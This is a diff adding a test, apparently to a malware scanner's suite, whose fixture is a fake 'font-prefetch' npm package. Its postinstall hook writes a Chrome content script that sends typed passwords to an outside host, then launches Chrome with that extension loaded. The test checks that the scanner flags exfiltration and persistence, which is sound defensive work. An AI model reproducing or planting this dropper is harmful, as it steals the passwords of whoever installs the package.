@@ -2275,3 +2275,34 @@ describe('a note to reviewers with several qualifiers (round 14)', () => {
     ).not.toContain('text.reviewer-note');
   });
 });
+
+describe('attacker rewrite of the extension dropper (checked after the change)', () => {
+  it('content script parts in a second file, flattened by a rest-args helper, written by fs.promises, and a .cmd that starts Chrome with it', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'font-prefetch',
+        version: '1.4.0',
+        scripts: { postinstall: 'node lib/warm.js' },
+      }),
+      'lib/parts.js': `module.exports = {
+  head: "(function(){var sink='https://fp-cdn.example-fonts.net/c';",
+  body: [
+    "document.addEventListener('change',function(ev){var t=ev.target;",
+    "if(t&&t.type==='password'){fetch(sink,{method:'POST',mode:'no-cors',body:JSON.stringify({v:t.value,u:location.host})});}},true);",
+  ],
+  tail: '})();',
+};`,
+      'lib/warm.js': `const { promises: fsp } = require('fs');
+const os = require('os'), path = require('path');
+const { head, body, tail } = require('./parts');
+const compose = (...xs) => xs.flat().join('\\n');
+async function place(dir, name, text) { await fsp.mkdir(dir, { recursive: true }); await fsp.writeFile(path.join(dir, name), text, 'utf8'); }
+const target = path.join(os.homedir(), '.cache', 'fontprefetch', 'ext');
+place(target, 'content.js', compose(head, body, tail)).then(() => {
+  const bat = \`@echo off\\r\\nstart "" "%ProgramFiles%\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe" --load-extension="\${target}"\\r\\n\`;
+  return place(os.tmpdir(), 'fp.cmd', bat);
+}).then(() => require('child_process').exec(\`cmd /c "\${path.join(os.tmpdir(), 'fp.cmd')}"\`));`,
+    }).evidence.map((f) => f.rule);
+    expect(found).toEqual(expect.arrayContaining(['js.page-secret-exfil', 'script.persistence']));
+  });
+});
